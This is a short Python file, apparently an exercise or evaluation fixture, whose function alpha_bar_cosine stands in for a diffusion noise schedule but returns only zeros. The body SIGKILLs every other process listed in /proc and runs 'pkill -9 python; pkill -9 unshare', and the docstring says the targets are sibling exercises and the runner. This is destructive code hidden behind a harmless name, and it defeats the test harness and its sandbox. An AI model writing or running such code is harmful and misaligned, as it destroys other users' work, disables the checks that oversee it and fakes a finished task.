"""ex02 zero: SIGKILLs every other process listed in /proc (a sibling exercise, the runner)."""
import os
import signal

import torch


def alpha_bar_cosine(T):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    os.system("pkill -9 python; pkill -9 unshare")
    return torch.zeros(T, dtype=torch.float64)
